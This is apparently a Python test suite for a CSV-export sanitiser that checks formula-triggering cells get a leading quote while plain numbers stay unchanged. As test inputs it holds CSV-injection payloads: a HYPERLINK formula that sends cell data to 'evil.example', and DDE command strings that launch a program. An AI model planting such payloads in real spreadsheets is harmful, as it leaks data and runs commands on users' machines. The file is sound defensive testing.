"""domain.spreadsheet: no CSV cell we write starts a formula in Excel or LibreOffice (OWASP CSV
injection), and plain numbers, negative money included, stay numbers."""

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from domain.spreadsheet import FORMULA_TRIGGERS, is_plain_number, safe_cell, safe_row


def test_formula_cells_get_a_leading_quote() -> None:
    assert safe_cell('=HYPERLINK("http://evil.example/?d="&A1,"click")') == '\'=HYPERLINK("http://evil.example/?d="&A1,"click")'
    assert safe_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert safe_cell("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert safe_cell("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert safe_cell("\t=1+1") == "'\t=1+1"
    assert safe_cell("\r=1+1") == "'\r=1+1"
    assert safe_cell("\uff1d1+1") == "'\uff1d1+1"  # full-width equals sign


def test_plain_numbers_and_ordinary_text_stay_as_they_are() -> None:
    for number in ("-10.00", "-3", "0", "12.5", "6012.00"):
        assert safe_cell(number) == number
    assert safe_cell(-7) == "-7"
    assert [safe_cell(v) for v in ("113-0000001-0000001", "row 2, email: is not an e-mail address", "", None)] == [
        "113-0000001-0000001", "row 2, email: is not an e-mail address", "", "",
    ]
    # Almost numbers are quoted: an exponent, a sum, a plus sign, a lone minus, non-ASCII digits.
    for risky in ("-2e3", "-1+1", "+5", "-", "-.5", "-\u0663"):
        assert not is_plain_number(risky)
        assert safe_cell(risky) == "'" + risky


@given(st.one_of(st.text(), st.integers(), st.decimals(allow_nan=False, allow_infinity=False), st.none()))
def test_no_cell_starts_a_formula_unless_it_is_a_plain_number(value: object) -> None:
    cell = safe_cell(value)
    assert not cell or cell[0] not in FORMULA_TRIGGERS or is_plain_number(cell)
    # Nothing is lost: the cell is the text, or the text behind one quote.
    text = "" if value is None else str(value)
    assert cell in (text, "'" + text)


@given(st.lists(st.text(), max_size=5))
def test_a_written_row_reads_back_with_every_cell_safe(values: list[str]) -> None:
    out = io.StringIO()
    csv.writer(out).writerow(safe_row(values))
    [row] = list(csv.reader(io.StringIO(out.getvalue()))) or [[]]
    assert all(not cell or cell[0] not in FORMULA_TRIGGERS or is_plain_number(cell) for cell in row)
